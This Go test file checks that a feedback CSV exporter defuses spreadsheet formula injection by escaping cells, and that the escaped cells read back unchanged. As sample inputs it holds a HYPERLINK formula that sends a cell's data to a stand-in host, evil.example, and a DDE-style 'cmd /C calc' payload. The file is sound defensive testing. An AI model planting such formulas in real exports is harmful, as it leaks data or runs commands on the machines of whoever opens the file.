package feedbackexport

import (
	"github.com/klartext/klartext/generator/feedback"

	"encoding/csv"
	"reflect"
	"strings"
	"testing"
)

func TestEscapeCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1,"Mehr")`: `'=HYPERLINK("https://evil.example/?"&A1,"Mehr")`,
		"+49 30 1234":                 "'+49 30 1234",
		"-5 € im Jahr zu viel":        "'-5 € im Jahr zu viel",
		"@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                      "'\t=1+1",
		"\r=1+1":                      "'\r=1+1",
		"\n=1+1":                      "'\n=1+1",
		" =1+1":                       "' =1+1",
		"\tGut":                       "'\tGut",
		"\u00a0=1":                    "'\u00a0=1",
		"\f+":                         "'\f+",
		"'=1+1":                       "''=1+1", // the reader's apostrophe stays
		"''+x":                        "'''+x",
		"=":                           "'=",
		"'Tschuldigung":               "'Tschuldigung", // no formula: as it is
		"a=b":                         "a=b",
		"Gut erklärt":                 "Gut erklärt",
		"2026-03-05":                  "2026-03-05",
		"/products/etf-welt/":         "/products/etf-welt/",
		"":                            "",
		"'":                           "'",
		"\t":                          "\t",
		"' ":                          "' ",
	} {
		got := escapeCell(in)
		if got != want {
			t.Errorf("escapeCell(%q) = %q, want %q", in, got, want)
		}
		if back := unescapeCell(got); back != in {
			t.Errorf("unescapeCell(%q) = %q, want %q", got, back, in)
		}
	}
}

// TestExportDefusesFormulas: no cell klartext feedback export writes starts
// the way a formula does, and the build reads every comment, answer and
// video title back as it was stored.
func TestExportDefusesFormulas(t *testing.T) {
	in := []feedback.Entry{
		{ID: "1", Page: "/a/", Date: day("2026-03-05"), Kind: feedback.Criticism, Public: true,
			Comment: `=HYPERLINK("https://evil.example/?d="&A1,"Mehr")`, Answer: "@Leserin: Danke!", Answered: day("2026-03-06")},
		{ID: "2", Page: "/b/", Date: day("2026-03-05"), Kind: feedback.Question, Public: true, Comment: "'=1+1 ist doch 2?",
			Videos: []string{"-5 % Kosten", "Risiko"}},
		{ID: "3", Page: "/c/", Date: day("2026-03-05"), Kind: feedback.Praise, Public: true, Comment: "+1, und 'so' klar"},
	}
	var b strings.Builder
	if err := Write(&b, in); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
				t.Errorf("the cell %q starts like a formula", cell)
			}
		}
	}
	if !strings.Contains(b.String(), `"'=HYPERLINK(`) || !strings.Contains(b.String(), ",''=1+1 ist doch 2?,") {
		t.Errorf("export:\n%s", b.String())
	}
	got, ds := Parse(exportFile, strings.NewReader(b.String()))
	if len(ds) > 0 {
		t.Fatal(ds)
	}
	for i := range got {
		got[i].Line = 0
	}
	if !reflect.DeepEqual(got, in) {
		t.Errorf("read back\n got %+v\nwant %+v", got, in)
	}
}

// TestParseExportWithoutEscapes: a file written by hand (or by klartext
// before it defused formulas) is read as it is, but for the one case the
// README names: a cell that starts with an apostrophe and then a formula
// character loses that apostrophe.
func TestParseExportWithoutEscapes(t *testing.T) {
	src := "page,date,kind,costs,transparency,conditions,service,interaction,comment\n" +
		"/a/,2026-01-05,praise,,,,,,- Gut erklärt\n" +
		"/a/,2026-01-05,praise,,,,,,@Bank: danke\n" +
		"/a/,2026-01-05,praise,,,,,,'Tschuldigung\n" +
		"/a/,2026-01-05,praise,,,,,,'-)\n"
	got, ds := Parse(exportFile, strings.NewReader(src))
	if len(ds) > 0 || len(got) != 4 {
		t.Fatalf("%+v %v", got, ds)
	}
	for i, want := range []string{"- Gut erklärt", "@Bank: danke", "'Tschuldigung", "-)"} {
		if got[i].Comment != want {
			t.Errorf("row %d: %q, want %q", i+2, got[i].Comment, want)
		}
	}
}

// FuzzEscapeCell: every cell comes back as it was, and none that could be
// a formula is written without an apostrophe in front.
func FuzzEscapeCell(f *testing.F) {
	for _, s := range []string{"=1+1", "'=1", "''", "\t", " \t=", "a", "'-)", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := escapeCell(s)
		if back := unescapeCell(e); back != s {
			t.Fatalf("%q → %q → %q", s, e, back)
		}
		if trimmed := strings.TrimSpace(e); trimmed != "" && strings.IndexByte("=+-@", trimmed[0]) >= 0 {
			t.Fatalf("%q is written as %q", s, e)
		}
	})
}
